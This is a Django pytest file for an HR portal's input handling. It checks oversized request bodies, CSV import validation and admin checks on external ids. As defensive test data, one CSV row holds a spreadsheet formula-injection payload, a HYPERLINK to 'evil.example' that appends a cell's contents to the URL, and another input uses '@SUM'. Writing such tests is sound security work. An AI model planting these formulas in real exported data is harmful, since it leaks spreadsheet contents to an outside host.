"""Input outside the API: request bodies are capped before anything parses them (the import page
with its own, higher cap), and the portal's import and the admin apply the same text rules as
the API (control characters, the external-id character set)."""

from __future__ import annotations

import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpRequest, HttpResponse
from django.test import Client, RequestFactory
from django.urls import reverse

from people.models import Person
from tests.support.csv_files import ORG_HEADER
from tests.support.users import client_of, user_with_role
from web.api.middleware import BodySizeLimitMiddleware

pytestmark = pytest.mark.django_db

SIX_MB = 6_300_000


def big_file(size: int) -> SimpleUploadedFile:
    return SimpleUploadedFile("big.csv", b"x" * size, content_type="text/csv")


# --- Request bodies -----------------------------------------------------------------------------


def test_a_big_anonymous_multipart_post_to_the_login_page_gets_413() -> None:
    data = {"username": "someone", "password": "wrong", "file": big_file(SIX_MB)}
    response = Client().post(reverse("portal:login"), data)
    assert response.status_code == 413
    assert response.content.decode() == "The request body is larger than 2,621,440 bytes."


def test_the_body_is_refused_before_anything_reads_it() -> None:
    def view_that_parses(request: HttpRequest) -> HttpResponse:
        raise AssertionError(f"the body was parsed: {list(request.POST)}")

    request = RequestFactory().generic(
        "POST",
        reverse("portal:login"),
        data=b"",
        content_type="multipart/form-data; boundary=x",
        CONTENT_LENGTH=str(SIX_MB),
    )
    response = BodySizeLimitMiddleware(view_that_parses)(request)
    assert response.status_code == 413


def test_admin_pages_are_capped_too() -> None:
    response = Client().post("/admin/login/", {"username": "x", "file": big_file(SIX_MB)})
    assert response.status_code == 413


def test_a_file_a_little_over_the_import_limit_still_gets_the_forms_explanation(
    hr: Client,
) -> None:
    response = hr.post(reverse("portal:import"), {"kind": "people", "file": big_file(SIX_MB)})
    assert response.status_code == 200
    assert "the portal imports files of up to 5,000,000 bytes" in response.text


def test_the_import_page_has_its_own_higher_cap(hr: Client) -> None:
    response = hr.post(reverse("portal:import"), {"kind": "people", "file": big_file(10_000_001)})
    assert response.status_code == 413
    assert response.content.decode() == "The request body is larger than 10,000,000 bytes."


# --- The portal's import ------------------------------------------------------------------------


def upload_people(client: Client, lines: list[str]) -> str:
    content = "\n".join([ORG_HEADER, *lines]).encode() + b"\n"
    data = {"kind": "people", "file": SimpleUploadedFile("org.csv", content)}
    response = client.post(reverse("portal:import"), data)
    assert response.status_code == 200
    return response.text


def test_a_nul_or_a_formula_id_in_an_import_is_a_line_error_and_good_rows_are_kept(
    hr: Client,
) -> None:
    html = upload_people(
        hr,
        [
            "E1,Ada,,CEO,,team:Leadership",
            "E2,Bea\x00,,Manager,E1,",
            '"=HYPERLINK(""http://evil.example/?leak=""&B2,""open"")",Eve,,,,',
            "E3,Cai,,Engineer\x1b,E1,",
            "E4,Dee,,Engineer,E1,",
        ],
    )
    errors = re.findall(r'<tr data-line="(\d+)"><td>\d+</td><td>([^<]+)</td>', html)
    assert errors == [
        ("3", "name: contains a control character (U+0000)"),
        (
            "4",
            "external_id: &#x27;=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;B2,&quot;open"
            "&quot;)&#x27; is not a valid external id (use ASCII letters, digits and . _ - : @ / +"
            " only, starting with a letter, a digit or _)",
        ),
        ("5", "title: contains a control character (U+001B)"),
    ]
    assert set(Person.objects.values_list("external_id", flat=True)) == {"E1", "E4"}


# --- The admin ----------------------------------------------------------------------------------


@pytest.fixture
def admin_client(db: None) -> Client:
    root = user_with_role(
        None, "root", email="root@example.org", password="pw-root-12", superuser=True
    )
    return client_of(root)


def person_form(external_id: str) -> dict[str, str]:
    return {
        "external_id": external_id,
        "name": "Eve",
        "is_active": "on",
        "memberships-TOTAL_FORMS": "0",
        "memberships-INITIAL_FORMS": "0",
    }


def test_the_admin_refuses_a_formula_external_id(admin_client: Client) -> None:
    response = admin_client.post("/admin/people/person/add/", person_form("@SUM(1+1)"))
    assert response.status_code == 200
    assert "is not a valid external id" in response.text
    assert not Person.objects.exists()
    added = admin_client.post("/admin/people/person/add/", person_form("jane.doe@corp.example"))
    assert added.status_code == 302
    assert Person.objects.get().external_id == "jane.doe@corp.example"


def test_a_person_stored_with_an_old_id_can_still_be_edited_in_the_admin(
    admin_client: Client,
) -> None:
    person = Person.objects.create(external_id="old id", name="Eve")
    form = {**person_form("old id"), "name": "Eve Renamed"}
    response = admin_client.post(f"/admin/people/person/{person.pk}/change/", form)
    assert response.status_code == 302, response.text[:2000]
    person.refresh_from_db()
    assert person.name == "Eve Renamed"
